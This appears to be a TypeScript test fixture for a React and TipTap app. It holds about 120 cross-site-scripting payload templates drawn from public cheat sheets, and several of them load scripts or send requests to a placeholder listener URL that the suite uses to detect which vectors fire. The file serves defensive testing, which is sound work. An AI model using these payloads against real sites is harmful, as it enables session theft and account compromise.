/**
 * Cross-site-scripting vectors (issue 7, point 2). `{{URL}}` becomes the
 * address of a listener the suite runs (any request to it is an attack that
 * worked: an image, a fetch, a stylesheet…) and `{{N}}` the vector's number,
 * so that a fired dialog or a request names the vector. Sources: the OWASP
 * filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, HTML5 Security
 * Cheatsheet, reduced to payloads relevant to a React + TipTap app.
 */
const templates: string[] = [
  // Script elements
  `<script>alert({{N}})</script>`,
  `<script src="{{URL}}"></script>`,
  `<SCRIPT SRC={{URL}}></SCRIPT>`,
  `<script>fetch('{{URL}}')</script>`,
  `<<SCRIPT>alert({{N}});//<</SCRIPT>`,
  `<script/xss src="{{URL}}"></script>`,
  `<scr<script>ipt>alert({{N}})</scr</script>ipt>`,
  `</script><script>alert({{N}})</script>`,
  `<script type="module">import('{{URL}}')</script>`,
  `<script>/*</script><script>*/alert({{N}})</script>`,
  // Event handlers
  `<img src=x onerror=alert({{N}})>`,
  `<img src="{{URL}}">`,
  `<IMG SRC=x ONERROR="fetch('{{URL}}')">`,
  `<img src=x:alert({{N}}) onerror=eval(src)>`,
  `<body onload=alert({{N}})>`,
  `<svg onload=alert({{N}})>`,
  `<svg/onload=fetch('{{URL}}')>`,
  `<input autofocus onfocus=alert({{N}})>`,
  `<select autofocus onfocus=alert({{N}})></select>`,
  `<textarea autofocus onfocus=alert({{N}})></textarea>`,
  `<details open ontoggle=alert({{N}})>`,
  `<video><source onerror=alert({{N}})></video>`,
  `<audio src=x onerror=alert({{N}})>`,
  `<iframe onload=alert({{N}})></iframe>`,
  `<marquee onstart=alert({{N}})>x</marquee>`,
  `<div onmouseover=alert({{N}})>survol</div>`,
  `<a onclick=alert({{N}})>lien</a>`,
  `<form><button formaction=javascript:alert({{N}})>Envoyer</button></form>`,
  `<object data="{{URL}}"></object>`,
  `<embed src="{{URL}}">`,
  `<style onload=alert({{N}})></style>`,
  `<link rel=stylesheet href="{{URL}}">`,
  `<isindex type=image src=1 onerror=alert({{N}})>`,
  `<body onpageshow=alert({{N}})>`,
  `<image src=x onerror=alert({{N}})>`,
  `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;{{N}}&#41;">`,
  `<img src=x onerror=\u0061lert({{N}})>`,
  `<img src=x oNeRrOr=alert({{N}})>`,
  `<img/src=x/onerror=alert({{N}})>`,
  `<img src=x onerror   =   alert({{N}})>`,
  `" onmouseover="alert({{N}})`,
  `' onfocus='alert({{N}})' autofocus='`,
  `"><img src=x onerror=alert({{N}})>`,
  `'><svg onload=alert({{N}})>`,
  `"autofocus onfocus=alert({{N}}) x="`,
  `</textarea><script>alert({{N}})</script>`,
  `</title><script>alert({{N}})</script>`,
  `</style><script>alert({{N}})</script>`,
  `--><script>alert({{N}})</script><!--`,
  `]]><script>alert({{N}})</script>`,
  // URLs
  `javascript:alert({{N}})`,
  `JaVaScRiPt:alert({{N}})`,
  ` javascript:alert({{N}})`,
  `java\tscript:alert({{N}})`,
  `java&#x09;script:alert({{N}})`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert({{N}})`,
  `javascript://%0aalert({{N}})`,
  `<a href="javascript:alert({{N}})">lien</a>`,
  `<a href="  javascript:alert({{N}})">lien</a>`,
  `<a href="data:text/html,<script>alert({{N}})</script>">lien</a>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<iframe src="javascript:alert({{N}})"></iframe>`,
  `<iframe src="data:text/html,<script>alert({{N}})</script>"></iframe>`,
  `<iframe srcdoc="<script>alert({{N}})</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert({{N}})">`,
  `<meta http-equiv="refresh" content="0;url={{URL}}">`,
  `<base href="{{URL}}/">`,
  `<form action="{{URL}}"><input type=submit></form>`,
  `vbscript:msgbox({{N}})`,
  `{{URL}}`,
  // SVG and MathML
  `<svg><script>alert({{N}})</script></svg>`,
  `<svg><a xlink:href="javascript:alert({{N}})"><text x=20 y=20>clic</text></a></svg>`,
  `<svg><animate onbegin=alert({{N}}) attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=alert({{N}})>`,
  `<svg><image href="{{URL}}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=alert({{N}})></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert({{N}})>`,
  `<math href="javascript:alert({{N}})">clic</math>`,
  `<svg><style>@import '{{URL}}';</style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='{{URL}}'/></svg>#x"/></svg>`,
  // CSS
  `<style>@import '{{URL}}';</style>`,
  `<style>body{background:url('{{URL}}')}</style>`,
  `<div style="background-image:url('{{URL}}')">x</div>`,
  `<div style="width:expression(alert({{N}}))">x</div>`,
  `<div style="behavior:url({{URL}})">x</div>`,
  `<p style="x:\\65 xpression(alert({{N}}))">x</p>`,
  `<span style="background:url(javascript:alert({{N}}))">x</span>`,
  `<style>*{}</style><link rel=import href="{{URL}}">`,
  // Broken markup and parser tricks
  `<img src="x` + "`" + `onerror=alert({{N}})>`,
  `<img src=x onerror=alert({{N}})//`,
  `<<img src=x onerror=alert({{N}})>>`,
  `<img """><script>alert({{N}})</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert({{N}})>">`,
  `<svg></p><style><a id="</style><img src=x onerror=alert({{N}})>">`,
  `<a href="{{URL}}"><img src="{{URL}}"></a`,
  `<!--<img src="--><img src=x onerror=alert({{N}})//">`,
  `<template><img src=x onerror=alert({{N}})></template>`,
  `<xmp><img src=x onerror=alert({{N}})></xmp>`,
  `<plaintext><img src=x onerror=alert({{N}})>`,
  `<div id="x" tabindex="1" onfocusin="alert({{N}})">`,
  `<input type="image" src="{{URL}}">`,
  `<table background="{{URL}}">`,
  `<video poster="{{URL}}"></video>`,
  // Unicode and encoding tricks
  `＜script＞alert({{N}})＜/script＞`,
  `\u003cscript\u003ealert({{N}})\u003c/script\u003e`,
  `%3Cscript%3Ealert({{N}})%3C%2Fscript%3E`,
  `&lt;script&gt;alert({{N}})&lt;/script&gt;`,
  `<scr\u200bipt>alert({{N}})</scr\u200bipt>`,
  `\u202e>tpircs/<)}}N{{(trela>tpircs<`,
  `<img src=x onerror=alert\u2028({{N}})>`,
  `\ufeff<script>alert({{N}})</script>`,
  `<a href="jav&#x0A;ascript:alert({{N}})">lien</a>`,
  `<a href="\u0001javascript:alert({{N}})">lien</a>`,
  // Template and framework injections
  `{{constructor.constructor('alert({{N}})')()}}`,
  `\${alert({{N}})}`,
  `#{alert({{N}})}`,
  `{"__html":"<img src=x onerror=alert({{N}})>"}`,
  `__proto__[innerHTML]=<img src=x onerror=alert({{N}})>`,
];

export interface XssVector {
  index: number;
  text: string;
}

/** The vectors, pointing at `listenerUrl` (each with its own `?v=` so that a hit names it). */
export function xssVectors(listenerUrl: string): XssVector[] {
  return templates.map((template, index) => ({
    index,
    text: template.replaceAll("{{URL}}", `${listenerUrl}/xss?v=${index}`).replaceAll("{{N}}", String(index)),
  }));
}

export const XSS_VECTOR_COUNT = templates.length;
